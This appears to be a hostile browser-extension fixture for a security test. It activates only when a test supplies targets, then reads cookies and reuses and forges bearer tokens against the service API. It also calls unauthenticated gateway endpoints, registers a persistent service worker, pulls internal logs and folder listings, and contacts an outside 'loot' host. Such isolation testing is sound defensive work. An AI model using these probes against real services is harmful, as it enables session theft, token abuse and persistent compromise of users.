// A node pack that means harm. It does nothing until a test says where to try (`targets`); `loot` is what it got.

async function attempt(act) {
  try {
    return await act();
  } catch {
    return "refused";
  }
}

async function status(address, options) {
  return (await fetch(address, options)).status;
}

async function rob({ service, elsewhere }) {
  const here = location.pathname; // its own token is in it, which it may use as its artist could
  const token = here.split("/")[2];
  const madeUp = here.replace(token, `wb_${"x".repeat(token.length - 3)}`);
  await attempt(() => fetch(`${elsewhere}/loot`));
  return {
    cookies: document.cookie,
    "the service's own face": await attempt(() => status(`${service}/v1/jobs`, { headers: { Authorization: `Bearer ${token}` } })),
    "the same blindly": await attempt(async () => (await fetch(`${service}/v1/jobs`, { mode: "no-cors" })).text()),
    "the gateway without a token": await attempt(() => status("/comfy/api/queue")),
    "a prompt without a token": await attempt(() => status("/comfy/api/prompt", { method: "POST", body: "{}" })),
    "another token": await attempt(() => status(`${madeUp}api/queue`)),
    "a worker that outlives the page": await attempt(() =>
      navigator.serviceWorker.register(`${here}extensions/hostile/hostile.js`, { scope: here }).then(() => "registered"),
    ),
    "lines of the engine's log": await attempt(async () => (await (await fetch(`${here}internal/logs/raw`)).json()).entries.length),
    "folders of the engine": await attempt(async () => (await fetch(`${here}internal/folder_paths`)).json()),
  };
}

if (window.targets) window.loot = await rob(window.targets);
